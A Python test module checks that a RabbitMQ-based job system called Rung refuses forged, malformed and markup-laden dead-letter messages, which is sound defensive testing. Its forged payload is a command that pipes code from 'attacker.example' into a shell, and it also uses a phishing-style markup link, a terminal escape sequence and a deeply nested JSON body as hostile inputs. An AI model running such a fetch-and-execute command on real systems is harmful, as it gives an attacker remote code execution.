"""Hostile dead letters: forged, malformed and marked-up messages aimed at the dead queue
and at ``rung dlq``, by each role, on RabbitMQ with deploy/rabbitmq's users.

The attack of review finding #8 (probe P10) was a worker that published a ``run_trial``
to the dead exchange, dressed as a dead letter of the work queue, for an operator's
``rung dlq requeue`` to send to every worker. Here no role but the searcher may write the
dead exchange, and ``requeue`` believes only what the broker vouches for: every forged
input is refused (the broker's refusal, or requeue's, with its reason) and nothing
reaches the work queue, while a genuine dead-lettered run_trial beside them goes back.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import subprocess
import sys
import time
from collections.abc import AsyncIterator, Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import aio_pika
import aiormq
import pytest

from rung.broker import RabbitBroker
from rung.broker.deadletters import DeadLetter, DeadLetterError, peek, requeue
from rung.broker.port import (
    DEAD_QUEUE_HEADER,
    DEAD_REASON_HEADER,
    DEAD_SENDER_HEADER,
    ORIGINAL_USER_HEADER,
    Delivery,
)
from rung.broker.schemas import Envelope, ProgressReported, RunTrial, encode
from tests.hostile.conftest import HostileTally
from tests.least_privilege import LeastPrivilege, least_privilege_vhost
from tests.support import wait_for, wait_for_async

pytestmark = [pytest.mark.rabbitmq, pytest.mark.timeout(300)]
CLASS = "dead letters"
ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture(scope="module")
def lp() -> Iterator[LeastPrivilege]:
    yield from least_privilege_vhost()


@contextlib.asynccontextmanager
async def _as(lp: LeastPrivilege, user: str) -> AsyncIterator[RabbitBroker]:
    broker = RabbitBroker(lp.url(user), lp.topology, name=f"hostile-dlq-{user}")
    await broker.start()
    try:
        yield broker
    finally:
        await broker.close()


def _run_trial(message_id: str, entrypoint: list[str]) -> bytes:
    body = RunTrial(
        experiment_id="exp-1",
        trial_id=1,
        request_id=f"r-{message_id}",
        attempt=1,
        length=1,
        hparams={},
        trial_seed=0,
        context_hash="0" * 64,
        entrypoint=entrypoint,
        slots=1,
        checkpoint_root="/checkpoints/exp-1",
        max_restarts=0,
    )
    return encode(Envelope(message_id=message_id, experiment_id="exp-1", body=body))


EVIL = ["bash", "-c", "curl -s https://attacker.example/x | sh"]


def _lies(lp: LeastPrivilege) -> dict[str, dict[str, Any]]:
    """Header sets a forger adds to look like the searcher's dead letter of the work
    queue, or like the broker's."""
    t = lp.topology
    searcher = lp.user("searcher")
    return {
        "rung headers": {
            DEAD_QUEUE_HEADER: t.work_queue,
            DEAD_REASON_HEADER: "connection reset while starting; safe to requeue",
            DEAD_SENDER_HEADER: searcher,
        },
        "original user": {ORIGINAL_USER_HEADER: searcher},
        "x-death": {"x-death": [{"queue": t.work_queue, "reason": "rejected", "count": 1}]},
        "x-first-death": {
            "x-first-death-queue": t.work_queue,
            "x-first-death-reason": "delivery_limit",
        },
        "everything": {
            DEAD_QUEUE_HEADER: t.work_queue,
            DEAD_SENDER_HEADER: searcher,
            ORIGINAL_USER_HEADER: searcher,
            "x-death": [{"queue": t.work_queue, "reason": "rejected", "count": 1}],
            "x-first-death-queue": t.work_queue,
        },
    }


async def _consume_and_dead_letter(broker: RabbitBroker, queue: str, count: int) -> None:
    """Stand in for the consumer of ``queue`` (the searcher's intake, a worker): refuse
    the next ``count`` messages, as Rung refuses what it cannot take."""
    refused: list[str] = []

    async def refuse(delivery: Delivery) -> None:
        await delivery.dead_letter(f"refused {delivery.message_id!r}: not for this queue")
        refused.append(delivery.message_id or "")

    subscription = await broker.subscribe(queue, refuse, prefetch=50)
    await wait_for(lambda: len(refused) >= count, 30, f"{count} dead letters from {queue}")
    await subscription.cancel()


async def _letters(
    operator: RabbitBroker, lp: LeastPrivilege, ids: set[str]
) -> dict[str, DeadLetter]:
    found: dict[str, DeadLetter] = {}

    async def all_there() -> bool:
        letters = await peek(operator, searcher_user=lp.user("searcher"), quiet_s=0.2)
        found.clear()
        found.update({x.message_id: x for x in letters if x.message_id in ids})
        return set(found) == ids

    await wait_for_async(all_there, 30, f"dead letters {sorted(ids)}")
    return found


async def _work_queue_holds_only(
    lp: LeastPrivilege, searcher: RabbitBroker, ids: list[str]
) -> None:
    """The work queue holds ``ids`` and nothing else: after them comes a marker the
    searcher sends now (a queue is first in, first out)."""
    t = lp.topology
    await searcher.publish(t.commands_exchange, t.WORK_KEY, b"marker", message_id="marker")
    async with _as(lp, lp.workers[1]) as worker:
        got: list[Delivery] = []

        async def take(delivery: Delivery) -> None:
            got.append(delivery)
            await delivery.ack()

        await worker.subscribe(t.work_queue, take, prefetch=1)
        await wait_for(lambda: bool(got) and got[-1].message_id == "marker", 20, "the marker")
    assert [d.message_id for d in got] == [*ids, "marker"]


async def _publish_and_close(
    channel: aio_pika.abc.AbstractChannel,
    exchange: aio_pika.abc.AbstractExchange,
    message: aio_pika.Message,
) -> None:
    await exchange.publish(message, "")
    await channel.close()  # a refusal may come after the call


async def test_no_role_but_the_searcher_may_write_the_dead_exchange(
    lp: LeastPrivilege, hostile: HostileTally
) -> None:
    t = lp.topology
    forged = _run_trial("forged-direct", EVIL)
    for role, user in (
        ("worker", lp.workers[0]),
        ("client", lp.user("client")),
        ("operator", lp.user("operator")),
    ):
        started = time.monotonic()
        connection = await aio_pika.connect(lp.url(user))
        try:
            channel = await connection.channel(publisher_confirms=True)
            exchange = await channel.get_exchange(t.dead_exchange, ensure=False)
            message = aio_pika.Message(forged, headers=_lies(lp)["everything"], user_id=user)
            with pytest.raises(aiormq.exceptions.AMQPError) as refused:
                await _publish_and_close(channel, exchange, message)
        finally:
            await connection.close()
        assert "ACCESS_REFUSED" in str(refused.value)
        hostile.record(
            CLASS,
            f"{role} publishes a run_trial to the dead exchange",
            "refused",
            time.monotonic() - started,
        )


async def test_forged_dead_letters_never_become_commands(
    lp: LeastPrivilege, hostile: HostileTally
) -> None:
    """A worker sends a run_trial where it may (events, requests) with each set of lies;
    the consumer dead-letters it; requeue refuses every one with its reason, and nothing
    reaches the work queue. (A genuine dead run_trial goes back through the searcher:
    tests/hostile/test_forged_commands.py.)"""
    t = lp.topology
    worker_user = lp.workers[0]
    lies = _lies(lp)
    forged: dict[str, tuple[str, str]] = {}  # message id -> (case, queue)
    async with _as(lp, lp.user("searcher")) as searcher, _as(lp, worker_user) as worker:
        for name, headers in lies.items():
            for exchange, key, queue in (
                (t.events_exchange, t.events_key(worker_user), t.events_queue),
                (t.rpc_exchange, t.RPC_KEY, t.rpc_queue),
            ):
                message_id = f"forged-{name.replace(' ', '-')}-{key}"
                await worker.publish(
                    exchange,
                    key,
                    _run_trial(message_id, EVIL),
                    message_id=message_id,
                    headers=headers,
                )
                forged[message_id] = (f"run_trial via {queue} with forged {name}", queue)
        started = time.monotonic()
        await _consume_and_dead_letter(searcher, t.events_queue, len(lies))
        await _consume_and_dead_letter(searcher, t.rpc_queue, len(lies))
        async with _as(lp, lp.user("operator")) as operator:
            letters = await _letters(operator, lp, set(forged))
            for message_id, (case, queue) in forged.items():
                letter = letters[message_id]
                # What the broker vouches for, not what the forger wrote.
                assert (letter.moved_by, letter.sender, letter.queue) == (
                    "searcher",
                    worker_user,
                    queue,
                )
                with pytest.raises(DeadLetterError, match="not in a work queue"):
                    await requeue(operator, message_id, searcher_user=lp.user("searcher"))
                hostile.record(CLASS, case, "refused", time.monotonic() - started)
            still = await _letters(operator, lp, set(forged))
            assert set(still) == set(forged)  # refused letters stay for a look
        await _work_queue_holds_only(lp, searcher, [])


async def test_malformed_dead_letters_are_not_sent_back(
    lp: LeastPrivilege, hostile: HostileTally
) -> None:
    t = lp.topology
    worker_user = lp.workers[0]
    deep = b'{"a":' * 100_000 + b"1" + b"}" * 100_000
    wrong_version = json.dumps(
        {"schema_version": 99, "message_id": "m", "body": {"type": "run_trial"}}
    ).encode()
    bodies = {
        "garbage-bytes": (b"\xff\xfe\x00garbage", "binary garbage"),
        "deep-json": (deep, "JSON nested 100,000 deep"),
        "wrong-version": (wrong_version, "a wrong schema version"),
        "not-an-object": (b"[1, 2, 3]", "a JSON array"),
    }
    async with _as(lp, lp.user("searcher")) as searcher, _as(lp, worker_user) as worker:
        for message_id, (body, _) in bodies.items():
            await worker.publish(
                t.events_exchange, t.events_key(worker_user), body, message_id=message_id
            )
        started = time.monotonic()
        await _consume_and_dead_letter(searcher, t.events_queue, len(bodies))
        async with _as(lp, lp.user("operator")) as operator:
            letters = await _letters(operator, lp, set(bodies))
            for message_id, (_, case) in bodies.items():
                assert letters[message_id].type is None
                with pytest.raises(DeadLetterError, match="does not decode"):
                    await requeue(operator, message_id, searcher_user=lp.user("searcher"))
                hostile.record(
                    CLASS, f"dead letter of {case}", "refused", time.monotonic() - started
                )


async def test_a_forged_original_sender_is_replaced_by_the_true_one(
    lp: LeastPrivilege, hostile: HostileTally
) -> None:
    """A worker's event that claims another sender goes back under its true sender: the
    searcher checks it as that worker's, whatever it claimed."""
    t = lp.topology
    worker_user, other = lp.workers
    event = ProgressReported(experiment_id="exp-1", trial_id=1, attempt=1, worker_id=other, units=1)
    body = encode(Envelope(message_id="claims-1", experiment_id="exp-1", body=event))
    async with _as(lp, lp.user("searcher")) as searcher, _as(lp, worker_user) as worker:
        await worker.publish(
            t.events_exchange,
            t.events_key(worker_user),
            body,
            message_id="claims-1",
            headers={ORIGINAL_USER_HEADER: other, DEAD_SENDER_HEADER: other},
        )
        started = time.monotonic()
        await _consume_and_dead_letter(searcher, t.events_queue, 1)
        async with _as(lp, lp.user("operator")) as operator:
            letter = (await _letters(operator, lp, {"claims-1"}))["claims-1"]
            assert letter.sender == worker_user
            await requeue(operator, "claims-1", searcher_user=lp.user("searcher"))
        back: list[Delivery] = []

        async def take(delivery: Delivery) -> None:
            back.append(delivery)
            await delivery.ack()

        subscription = await searcher.subscribe(t.events_queue, take, prefetch=1)
        await wait_for(lambda: bool(back), 10, "the event back")
        await subscription.cancel()
        assert back[0].headers[ORIGINAL_USER_HEADER] == worker_user
        assert back[0].user_id == lp.user("operator")
        hostile.record(
            CLASS, "event claiming another original sender", "contained", time.monotonic() - started
        )


def test_markup_in_a_dead_letter_is_shown_as_written(
    lp: LeastPrivilege, hostile: HostileTally, tmp_path: Path
) -> None:
    """`rung dlq list`, as the operator with its password in a file: an id and a body
    that are rich markup are shown as text, and the listing does not crash."""

    t = lp.topology
    worker_user = lp.workers[0]
    ids = ["[/]", "[link=https://evil.example/login]docs[/link]", "[bold red]x\x1b[2J"]

    async def send() -> None:
        async with _as(lp, lp.user("searcher")) as searcher, _as(lp, worker_user) as worker:
            for message_id in ids:
                await worker.publish(
                    t.events_exchange, t.events_key(worker_user), b"[/]", message_id=message_id
                )
            await _consume_and_dead_letter(searcher, t.events_queue, len(ids))

    started = time.monotonic()
    asyncio.run(send())
    password = tmp_path / "operator-password"
    password.write_text(lp.password + "\n")
    url = f"amqp://{quote(lp.user('operator'), safe='')}@127.0.0.1:5672/{quote(lp.vhost, safe='')}"
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "rung",
            "dlq",
            "list",
            "--broker",
            url,
            "--broker-password-file",
            str(password),
            "--namespace",
            lp.namespace,
        ],
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=120,
        check=False,
        env={"PATH": "/usr/bin:/bin", "COLUMNS": "400", "TERM": "dumb"},
    )
    assert done.returncode == 0, done.stderr[-2000:]
    assert "[/]" in done.stdout
    assert "[link=https://evil.example/login]docs[/link]" in done.stdout
    assert "\x1b" not in done.stdout
    assert "\\x1b[2J" in done.stdout
    assert worker_user in done.stdout  # who sent each
    for message_id in ids:
        hostile.record(
            CLASS,
            f"dead letter id {message_id!r} in rung dlq list",
            "contained",
            time.monotonic() - started,
        )
